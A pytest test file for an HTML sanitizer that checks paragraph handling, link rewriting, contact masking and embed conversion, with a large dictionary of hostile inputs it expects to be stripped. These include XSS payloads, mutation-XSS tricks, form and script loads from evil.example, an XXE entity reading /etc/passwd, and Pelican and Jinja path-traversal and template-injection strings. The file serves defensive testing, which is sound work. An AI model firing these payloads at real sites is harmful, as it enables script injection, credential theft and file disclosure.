import pytest

from rookery.html.sanitize import SIZE_MAX, sanitize
from rookery.model.text import Html

REL = 'rel="nofollow ugc noopener noreferrer"'


def lines(*values):
    return "\n".join(values)


@pytest.mark.parametrize(
    ("expected", "raw"),
    [
        pytest.param("<p>Hello, world.</p>", "Hello, world.", id="plain text is a paragraph"),
        pytest.param("<p>One</p>\n<p>Two</p>", "<p>One\r\n<p>Two</p>\n\n", id="a line a paragraph"),
        pytest.param("<p>a b</p>", "<p>\n  a \t\n b  </p>", id="white space collapses"),
        pytest.param("<p>10&nbsp;km</p>", "<p>10&nbsp;km&nbsp;</p>", id="a no-break space between words stays"),
        pytest.param("<p>One</p>\n<p>Two</p>", "<div><div>One</div><div>Two</div></div>", id="divisions part words"),
        pytest.param("<p>One</p>\n<p>Two<br>three</p>", "One<br><br>Two<br>three<br>", id="two breaks are a paragraph"),
        pytest.param("<p>a <b>b</b> c</p>", "a<b> b </b>c", id="space stands outside of inline elements"),
        pytest.param("<p><b>a</b></p>\n<p><b>b</b></p>", "<b><p>a</p><p>b</p></b>", id="inline around blocks"),
        pytest.param("<p><b>a<i>b</i></b><i>c</i></p>", "<b>a<i>b</b>c</i>", id="crossed elements"),
        pytest.param("<h2>A</h2>\n<p>b</p>", "<h2>A</h2>b", id="a heading"),
        pytest.param("<h2>A</h2>\n<h3>B</h3>", "<h2>A<h3>B", id="a heading ends a heading"),
        pytest.param("<p>a</p>\n<hr>\n<p>b</p>", "a<hr>b", id="a rule"),
        pytest.param("<p>1 &lt; 2 &amp; 3 &gt; 2</p>", "1 < 2 & 3 > 2", id="signs that are no markup"),
        pytest.param("<p>\u00e9 ©</p>", "e&#x301; &copy;", id="references, in NFC"),
        pytest.param('<p lang="de" dir="ltr">a</p>', "<p LANG=de dir='LTR' class=x>a", id="language and direction"),
        pytest.param("<p><s>a</s> <code>b</code></p>", "<strike>a</strike> <tt>b</tt>", id="older spellings"),
        pytest.param("<p>ab</p>", "<span style='x'>a</span><font size=7>b</font>", id="elements that mean nothing"),
        pytest.param('<p><abbr title="a b">x</abbr></p>', "<abbr title=' a\nb '>x</abbr>", id="an abbreviation"),
        pytest.param(
            "<p>party \U0001f389</p>", "party <img class=smiley alt='\U0001f389' src=x>", id="an emoji as image"
        ),
        pytest.param("", "", id="nothing"),
        pytest.param("", "<p>&nbsp;</p><p><br></p><p><b> </b></p><div></div>", id="nothing but space"),
        pytest.param("", "<p><a href='https://e.com'><img src=x alt='a word'></a></p>", id="nothing but an image"),
        pytest.param("", "<figure><img src=x></figure>", id="a figure without its image"),
        pytest.param("", "<table><tr><td><img src=x></td></tr></table>", id="a table of images"),
    ],
)
def test_words_and_paragraphs(expected, raw):
    actual = sanitize(raw)

    assert expected == actual
    assert isinstance(actual, Html)


@pytest.mark.parametrize(
    ("expected", "raw"),
    [
        pytest.param(
            lines("<ul>", "<li>a</li>", "<li>b</li>", "</ul>"),
            "<ul><li>a<li>b</ul>",
            id="items without end tags",
        ),
        pytest.param(
            lines("<ul>", "<li>a", "<ul>", "<li>b</li>", "</ul>", "</li>", "</ul>"),
            "<ul><li>a</li><ul><li>b</li></ul></ul>",
            id="a list behind its item goes into it",
        ),
        pytest.param(
            lines("<ul>", "<li>a</li>", "</ul>", "<p>b</p>"),
            "<li>a</li><p>b</p>",
            id="an item without a list",
        ),
        pytest.param(
            lines("<ul>", "<li>a</li>", "</ul>"),
            "<ul>a</ul>",
            id="words in a list",
        ),
        pytest.param(
            lines('<ol start="3">', "<li>", "<p>a</p>", "<p>b</p>", "</li>", "</ol>"),
            "<ol start=3 type=a><li><p>a<p>b</ol>",
            id="paragraphs in an item",
        ),
        pytest.param(
            lines("<dl>", "<dt>a</dt>", "<dd>b</dd>", "<dd>c</dd>", "</dl>"),
            "<dl><div><dt>a<dd>b<dd>c</div></dl>",
            id="definitions",
        ),
        pytest.param(
            lines(
                "<table>",
                "<thead>",
                "<tr>",
                '<th scope="col">a</th>',
                "</tr>",
                "</thead>",
                "<tbody>",
                "<tr>",
                '<td colspan="2">b</td>',
                "<td></td>",
                "</tr>",
                "</tbody>",
                "</table>",
            ),
            "<table width=9><thead><tr><th scope=COL>a</thead><tr><td colspan=2 onclick=x>b<td></table>",
            id="a table",
        ),
        pytest.param(
            lines("<table>", "<caption>c</caption>", "<tbody>", "<tr>", "<td>a</td>", "</tr>", "</tbody>", "</table>"),
            "<table><caption>c</caption>a</table>",
            id="words in a table",
        ),
        pytest.param("<p>a</p>\n<p>b</p>", "<tr><td>a</td></tr><tr><td>b</td></tr>", id="rows without a table"),
        pytest.param(
            lines("<blockquote>", "<p>a</p>", "<p>b</p>", "</blockquote>"),
            "<blockquote>a<footer>b</footer></blockquote>",
            id="a quotation",
        ),
        pytest.param(
            "<pre><code>  a\n\n\tb &lt; c</code></pre>",
            "<pre class=x>\n\n<code>  a\r\n\n\tb &lt; c\n\n</code>\n</pre>",
            id="code keeps its lines",
        ),
        pytest.param("<pre>a\nb\nc</pre>", "<pre><div>a</div><div>b</div>c</pre>", id="a division a line of code"),
        pytest.param(
            lines("<figure>", "<figcaption>c</figcaption>", "</figure>"),
            "<figure><img src=x><figcaption>c</figcaption></figure>",
            id="a caption stays",
        ),
        pytest.param(
            lines("<details>", "<summary>s</summary>", "<p>a</p>", "</details>"),
            "<details open><summary>s</summary>a</details>",
            id="details",
        ),
    ],
)
def test_blocks(expected, raw):
    actual = sanitize(raw)

    assert expected == actual


@pytest.mark.parametrize(
    ("expected", "raw"),
    [
        pytest.param(
            f'<a href="https://e.com/" {REL}>x</a>', "<a href=https://e.com rel=me target=_blank>x</a>", id="absolute"
        ),
        pytest.param(f'<a href="https://base.example/d/b" {REL}>x</a>', "<a href=b>x</a>", id="relative"),
        pytest.param(f'<a href="https://base.example/d/p#n" {REL}>x</a>', "<a href='#n'>x</a>", id="in the page"),
        pytest.param(
            f'<a href="https://e.com/?a=1" {REL}>x</a>', "<a href='//e.com?utm_source=f&amp;a=1'>x</a>", id="tracking"
        ),
        pytest.param(
            f'<a href="https://e.com/?a=1&amp;copy=2" {REL}>x</a>',
            "<a href='https://e.com?a=1&copy=2'>x</a>",
            id="no reference",
        ),
        pytest.param(
            f'<a href="https://e.com/" title="&quot;a&quot; &lt;b&gt;" hreflang="de" {REL}>x</a>',
            "<a href=https://e.com hreflang=de title='\"a\" <b>'>x</a>",
            id="a title",
        ),
        pytest.param(
            f'<a href="https://e.com/1" {REL}>x</a><a href="https://e.com/2" {REL}>y</a>',
            "<a href=https://e.com/1>x<a href=https://e.com/2>y</a>",
            id="a link in a link",
        ),
        pytest.param("x", "<a href='javascript:alert(1)'>x</a>", id="a script"),
        pytest.param("x", "<a href='&#106;avascript&colon;alert(1)'>x</a>", id="an encoded script"),
        pytest.param("x", "<a href='\x01java\nscript:alert(1)'>x</a>", id="a script with controls"),
        pytest.param("x", "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>", id="data"),
        pytest.param("x", "<a href='vbscript:x'>x</a>", id="another script"),
        pytest.param("x", "<a name=x>x</a>", id="an anchor"),
    ],
)
def test_links(expected, raw):
    actual = sanitize(raw, base="https://base.example/d/p?utm_source=feed")

    assert f"<p>{expected}</p>" == actual


def test_without_a_base_relative_links_lose_their_link():
    actual = sanitize("<a href='/about'>us</a> <a href='#x'>here</a>")

    assert "<p>us here</p>" == actual


@pytest.mark.parametrize(
    ("expected", "raw"),
    [
        pytest.param("<p>a [e-mail removed] b</p>", "a jane@example.com b", id="an address"),
        pytest.param("<p><b>[e-mail removed]</b></p>", "<b>jane</b>@example.com", id="through elements"),
        pytest.param("<p>[e-mail removed]</p>", "jane<b>@example.com</b>", id="an element that is left empty goes"),
        pytest.param("<p>[e-mail removed]</p>", "jane<!-- x -->@<span>example</span>&#46;com", id="through comments"),
        pytest.param("<p>jane</p>\n<p>@example.com</p>", "<p>jane</p><p>@example.com</p>", id="not through blocks"),
        pytest.param("<p>Write!</p>", "<a href='mailto:jane@example.com'>Write!</a>", id="a mail link"),
        pytest.param(
            "<p>Write!</p>", "<a href='mailto:jane%40example.com?subject=x'>Write!</a>", id="an encoded mail link"
        ),
        pytest.param("<p>Call!</p>", "<a href='tel:+49301234567'>Call!</a>", id="a phone link"),
        pytest.param(
            "<p>Stop</p>", "<a href='https://e.com/?u=jane@example.com'>Stop</a>", id="a link with an address"
        ),
        pytest.param(
            '<p><abbr title="[e-mail removed]">x</abbr></p>', "<abbr title='jane@example.com'>x</abbr>", id="a title"
        ),
        pytest.param("<pre>[phone number removed]\nx</pre>", "<pre>+49 30 1234567\nx</pre>", id="in code"),
        pytest.param(
            f'<p><a href="mailto:jobs@example.com" {REL}>jobs@example.com</a></p>',
            "<a href='MAILTO:jobs@example.com?bcc=jane@example.com'>jobs@example.com</a>",
            id="an allowed address",
        ),
        pytest.param(
            f'<p><a href="tel:+4930999" {REL}>+49 30 999</a></p>',
            "<a href='tel:+49 30 999'>+49 30 999</a>",
            id="an allowed number",
        ),
    ],
)
def test_contact_data_are_masked_but_for_what_is_allowed(expected, raw):
    actual = sanitize(raw, allowed_contacts=("Jobs@Example.com", "+49 30 999"))

    assert expected == actual


@pytest.mark.parametrize(
    ("expected", "raw"),
    [
        (
            "https://www.youtube.com/watch?v=dQw4w9WgXcQ>Watch on YouTube",
            "<iframe src='//www.youtube.com/embed/dQw4w9WgXcQ?rel=0'></iframe>",
        ),
        (
            "https://vimeo.com/1>Watch on Vimeo",
            "<iframe data-src='https://player.vimeo.com/video/1' src='about:blank'>Loading</iframe>",
        ),
        (
            "https://e.com/x.mp4>Open the embedded content on e.com",
            "<video controls><source src=https://e.com/x.mp4>Your browser is old</video>",
        ),
        ("https://base.example/x.mp3>Open the embedded content on base.example", "<audio src=x.mp3></audio>"),
        (
            "https://www.youtube.com/watch?v=dQw4w9WgXcQ>Watch on YouTube",
            "<object data='http://www.youtube.com/v/dQw4w9WgXcQ'><embed src='http://www.youtube.com/v/dQw4w9WgXcQ'></object>",
        ),
        ("", "<iframe src='https://track.example/' width=1 height=1></iframe>"),
        ("", "<iframe src='javascript:alert(1)'></iframe>"),
        ("", "<iframe srcdoc='<script>alert(1)</script>'></iframe>"),
    ],
)
def test_a_player_becomes_a_link(expected, raw):
    url, _, words = expected.partition(">")
    link = f'\n<p><a href="{url}" {REL}>{words}</a></p>' if url else ""

    actual = sanitize(f"<p>See</p>{raw}", base="https://base.example/")

    assert f"<p>See</p>{link}" == actual


# Each makes a browser do something, or Pelican read a file; of each only the words are left.
HOSTILE = {
    "script": "<script>alert(1)</script>t",
    "script in script": "<scr<script>ipt>alert(1)</scr</script>ipt>t",
    "script without end": "t<script>alert(1)",
    "script with a slash": "<script/src=//evil.example/x.js></script>t",
    "script in a comment that ends early": "<!--><script>alert(1)</script>-->t",
    "conditional comment": "<!--[if IE]><script>alert(1)</script><![endif]-->t",
    "handler": "<p onclick=alert(1) onmouseover='alert(1)'>t</p>",
    "handler after a quote": '<p title=""onclick=alert(1)">t</p>',
    "handler after a slash": "<b/onfocus=alert(1)/autofocus>t</b>",
    "image": "<img src=x onerror=alert(1)>t",
    "image with a broken quote": '<img """><script>alert(1)</script>">t',
    "srcset": "<img srcset='https://evil.example/x 1x' src=y>t",
    "picture": "<picture><source srcset=https://evil.example/x></picture>t",
    "lazy image": "<img data-src=https://evil.example/x loading=lazy>t",
    "background": "<table background=https://evil.example/x><td background=y>t</table>",
    "style": "<style>@import '//evil.example'</style><p style='background:url(//evil.example)'>t</p>",
    "style and image in it": '<style><img src="</style><img src=x onerror=alert(1)>">t',
    "link": "<link rel=stylesheet href=//evil.example/x.css>t",
    "prefetch": "<link rel=prefetch href=//evil.example>t",
    "meta": "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>t",
    "base": "<base href=//evil.example/>t<a href=/x>x</a>",
    "form": "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>t</button></form>",
    "input": "<input autofocus onfocus=alert(1)>t",
    "textarea": "<textarea><img src=x onerror=alert(1)></textarea>t",
    "select": "<select><option><img src=x onerror=alert(1)></select>t",
    "svg": "<svg/onload=alert(1)>t",
    "svg with a script": "<svg><script>alert(1)</script></svg>t",
    "svg with a link": "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>t",
    "svg use": "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>t",
    "svg animation": "<svg><animate onbegin=alert(1) attributeName=x></svg>t",
    "math": "<math href=javascript:alert(1)>x</math>t",
    "math and mglyph": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">t',
    "math in a form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>t",
    "svg and p": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">t',
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">t',
    "template": "<template><img src=x onerror=alert(1)></template>t",
    "xmp": '<xmp><p title="</xmp><img src=x onerror=alert(1)>">t',
    "noembed": '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>t',
    "iframe": "<iframe src=javascript:alert(1)></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>t",
    "frames": "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>t",
    "object": "<object data=javascript:alert(1) type=text/html></object><embed src=javascript:alert(1)>t",
    "applet": "<applet code=x archive=//evil.example></applet>t",
    "marquee": "<marquee onstart=alert(1)>t</marquee>",
    "video": "<video src=javascript:alert(1) poster=//evil.example onloadstart=alert(1)></video>t",
    "audio": "<audio><source onerror=alert(1)></audio>t",
    "details": "<details open ontoggle=alert(1)>t</details>",
    "portal and custom elements": "<portal src=//evil.example></portal><x-y onclick=alert(1)>t</x-y>",
    "class and id": "<p class=hero id=main name=x data-x=1 contenteditable tabindex=1 slot=x is=x>t</p>",
    "target and ping": "<a href=https://e.com target=_top ping=//evil.example download>t</a>",
    "import map": "<script type=importmap>{}</script>t",
    "processing instruction": "<?xml-stylesheet href=javascript:alert(1)?><?php phpinfo() ?>t",
    "declaration": "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>t",
    "CDATA": "<![CDATA[<script>alert(1)</script>]]>t",
    "NUL": "<scr\x00ipt>alert(1)</scr\x00ipt><p on\x00click=alert(1)>t</p>",
    "UTF-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-t",
    "wide signs": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1et",
    "half a tag": "t<img src=x onerror=alert(1)",
    "half a tag and more": "t<img src=x onerror=alert(1) <p>",
    "a tag in an end tag": "t</p onclick=alert(1)><//script>alert(1)",
    "unclosed quote": "t<a href=\"https://e.com title='",
    "backtick": "<img src=`x`onerror=alert(1)`>t",
    "grave in a title": "<abbr title='`><img src=x onerror=alert(1)>`'>t</abbr>",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt;t",
    "a sign that eats a bracket": "<p>\u0338t</p><b>&#x338;t</b>",
    "direction override": "<p>\u202et\u2066</p><p dir=evil>t</p>",
    "line separator": "<p>t\u2028---\u2029t</p>",
    "front matter": "---\ntitle: x\n---\nt",
    "Pelican attach": "<a href='{attach}../../.git/config'>t</a><img src='{attach}/etc/passwd'>",
    "Pelican static": "<a href='{static}/../x'>t</a>",
    "Pelican filename": "<a href='{filename}/pages/a.md'>t</a><a href='|filename|/pages/a.md'>t</a>",
    "Pelican pipes": "<a href='|attach|../.env'>t</a><img src='|static|/x'>",
    "Pelican entities": "<a href='&#123;attach&#125;/x'>t</a><a href='&lbrace;attach&rcub;/x'>t</a><a href='&#x7C;attach&verbar;/x'>t</a>",
    "Pelican percent": "<a href='%7Battach%7D/x'>t</a><a href='https://e.com/%7Battach%7D/{attach}/x'>t</a>",
    "Pelican spaces": "<a href=' { attach } /x'>t</a><a href='{ATTACH}/x'>t</a><a href='\t{attach}\n/x'>t</a>",
    "Pelican in a title": "<a href='https://e.com' title='{attach}/etc/passwd |attach|x'>t</a><abbr title='{static}x'>t</abbr>",
    "Pelican in other attributes": "<td data-x='{attach}x'>t<time datetime='{attach}x'>t</time><p lang='{attach}x'>t",
    "Pelican in text": "t {attach}/etc/passwd |attach|x {{ site }} {% raw %}",
    "Pelican in a base": "<base href='{attach}'>t",
    "Jinja": "{{ ''.__class__ }}{% include '/etc/passwd' %}t",
}


@pytest.mark.parametrize("base", ["", "https://base.example/"], ids=["no base", "base"])
@pytest.mark.parametrize("raw", HOSTILE.values(), ids=HOSTILE.keys())
def test_of_hostile_html_only_words_are_left(raw, base, faults):
    actual = sanitize(raw, base=base)

    assert [] == faults(actual)
    assert "t" in actual or raw.startswith("t<a")
    assert actual == sanitize(actual, base=base)


@pytest.mark.parametrize(
    ("expected", "raw"),
    [
        ("<p>t</p>", HOSTILE["script"]),
        ("<p>t</p>", HOSTILE["handler"]),
        ("<p>t</p>", HOSTILE["image"]),
        ("<p>t</p>", HOSTILE["svg"]),
        ("<p>t</p>", HOSTILE["form"]),
        ("<p>tx</p>", HOSTILE["base"]),
        ("<p>t</p>", HOSTILE["half a tag"]),
        ("<p>&lt;script&gt;alert(1)&lt;/script&gt;t</p>", HOSTILE["entities"]),
        ("<p>t</p>", HOSTILE["Pelican attach"]),
        ("<p>t</p>", HOSTILE["Pelican static"]),
        (f'<p>t<a href="https://e.com/%7Battach%7D/%7Battach%7D/x" {REL}>t</a></p>', HOSTILE["Pelican percent"]),
        (
            f'<p><a href="https://e.com/" title="&#123;attach&#125;/etc/passwd &#124;attach&#124;x" {REL}>t</a><abbr title="&#123;static&#125;x">t</abbr></p>',
            HOSTILE["Pelican in a title"],
        ),
        (
            "<p>t &#123;attach&#125;/etc/passwd &#124;attach&#124;x &#123;&#123; site &#125;&#125; &#123;% raw %&#125;</p>",
            HOSTILE["Pelican in text"],
        ),
        ("<p>t --- t</p>", HOSTILE["line separator"]),
        ("<p>--- title: x --- t</p>", HOSTILE["front matter"]),
    ],
)
def test_what_is_left_of_hostile_html(expected, raw):
    actual = sanitize(raw)

    assert expected == actual


def test_a_body_that_is_too_long_is_cut_at_a_word(faults):
    actual = sanitize("<p>word {</p>" * 100_000)

    assert SIZE_MAX * 0.8 < len(actual) <= SIZE_MAX
    assert actual.endswith("<p>word &#123;</p>")
    assert [] == faults(actual)


def test_what_is_nested_too_deep_keeps_its_words(faults):
    deep = "<blockquote><ul><li><table><tr><td><b><i>" * 1000

    actual = sanitize(f"{deep}words")

    assert "words" in actual
    assert 100 < actual.count("<") // 2 <= 256
    assert [] == faults(actual)
